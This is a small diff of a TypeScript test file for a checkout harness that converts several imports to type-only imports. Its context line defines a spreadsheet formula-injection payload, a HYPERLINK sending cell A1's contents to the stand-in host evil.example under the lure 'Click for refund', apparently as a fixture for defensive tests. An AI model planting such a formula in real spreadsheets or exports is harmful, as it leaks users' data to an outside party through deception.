@@ -5,8 +5,8 @@
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { refusal } from './helpers/expect-refusal.ts';
-import { PASSWORD, PAY_PASSWORD, OwnedBand, Terminal, merchantWithTerminal, newTrade, ownerWithBand } from './helpers/fixtures.ts';
-import { Harness, cheapTestConfig, startHarness } from '../../harness/checkout-harness.ts';
+import { PASSWORD, PAY_PASSWORD, type OwnedBand, type Terminal, merchantWithTerminal, newTrade, ownerWithBand } from './helpers/fixtures.ts';
+import { type Harness, cheapTestConfig, startHarness } from '../../harness/checkout-harness.ts';
 
 const DAY = 86_400_000;
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")';
